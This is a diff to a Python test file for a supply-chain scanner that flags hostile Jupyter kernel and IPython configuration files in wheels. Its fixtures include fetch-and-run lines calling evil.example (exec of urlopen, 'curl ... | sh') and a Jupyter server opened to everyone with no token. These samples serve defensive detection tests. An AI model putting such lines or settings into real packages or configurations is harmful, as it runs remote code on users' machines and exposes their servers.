@@ -12,7 +12,7 @@ from mlsupply.evidence.build_steps import cmake, make, meson
 from mlsupply.evidence.builds import at_its_moment, build_facts, build_system
 from mlsupply.evidence.contents import judged
 from mlsupply.evidence.facets import Moment
-from mlsupply.evidence.jupyter import is_jupyter_file, jupyter_facts
+from mlsupply.evidence.jupyter import is_jupyter_file, jupyter_facts, settings_facts
 from mlsupply.evidence.moments import Layout
 from mlsupply.evidence.package import look_inside
 from mlsupply.evidence.pool import Pool
@@ -201,7 +201,7 @@ def test_a_kernel_is_told_by_what_its_command_line_does(change: dict[str, object
 def test_python_on_the_command_line_of_a_kernel_is_read_as_python() -> None:
     code = "import urllib.request; exec(urllib.request.urlopen('https://evil.example/x').read())"
     assert jupyter_facts(KERNEL, json.dumps({"argv": ["{sys.executable}", "-c", code]}).encode()).code == code
-    assert jupyter_facts(KERNEL, b"[1") == jupyter_facts(KERNEL, b"[]") == ((), "")
+    assert jupyter_facts(KERNEL, b"[1") == jupyter_facts(KERNEL, b"[]") == ((), "", "")
 
 
 def test_a_server_that_lets_everybody_in_is_told() -> None:
@@ -210,6 +210,9 @@ def test_a_server_that_lets_everybody_in_is_told() -> None:
     opened = {"ServerApp": {"token": "", "password": "", "ip": "0.0.0.0", "disable_check_xsrf": True}}
     assert jupyter_facts(path, json.dumps(honest).encode()).facts == ()
     (fact,) = jupyter_facts(path, json.dumps(opened).encode()).facts
+    assert (fact.behaviour, fact.moment) == ("opens-host", Moment.START)
+    python = b"c.ServerApp.token = ''  # none\nc.ServerApp.ip = '0.0.0.0'\n"
+    (fact,) = settings_facts("etc/jupyter/jupyter_server_config.py", python).facts
     assert (fact.behaviour, fact.moment) == ("opens-host", Moment.START)
 
 
@@ -249,3 +252,34 @@ def test_a_wheel_whose_kernel_fetches_and_runs_is_accused_of_it(tmp_path: Path, 
             accused(tmp_path / "demo-1.0-py3-none-any.whl", zipped([(KERNEL, json.dumps(kernel).encode())]), pool)
             == expected
         )
+
+
+CONFIG = "demo-1.0.data/data/etc/ipython/ipython_config.py"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "c.InteractiveShellApp.exec_lines = ['import os', \"os.system('echo x')\"]\nc.a.b = 'more'\n",
+        "c.InteractiveShellApp.exec_lines = [\n    'import os',  # first\n    \"os.system('echo x')\",\n]\n",
+        "c.InteractiveShellApp.exec_lines.append('import os')\nc.A.exec_lines += [\"os.system('echo x')\"]\n",
+        "c.IPKernelApp.code_to_run = '''import os\nos.system('echo x')'''\n",
+    ],
+)
+def test_text_that_ipython_executes_at_its_start_is_read_as_python(text: str) -> None:
+    assert settings_facts(CONFIG, text.encode()).code == "import os\nos.system('echo x')"
+
+
+def test_what_a_configuration_of_ipython_executes_is_judged(tmp_path: Path, pool: Pool) -> None:
+    honest = b"c.InteractiveShellApp.exec_lines = ['%autoreload 2', 'import numpy as np']\nc.ServerApp.token = ''\n"
+    assert accused(tmp_path / "a.whl", zipped([(CONFIG, honest)]), pool) == set()
+    hostile = b"c.InteractiveShellApp.exec_lines = ['import os', 'os.system(\"curl https://evil.example/x | sh\")']\n"
+    shell = b"c.InteractiveShellApp.exec_lines = ['!curl -s https://evil.example/x | sh']\n"
+    for text in (hostile, shell):
+        (found,) = accused(tmp_path / "b.whl", zipped([(CONFIG, text)]), pool)
+        assert found[2] == f"{CONFIG}!/exec_lines"
+
+
+@pytest.mark.parametrize("text", ["c.a.exec_lines = [" * 5_000, "c.a.exec_lines = '''" * 2_000, "c.ab.cd = '" * 20_000])
+def test_settings_made_to_take_long_end(text: str) -> None:
+    settings_facts(CONFIG, text.encode())
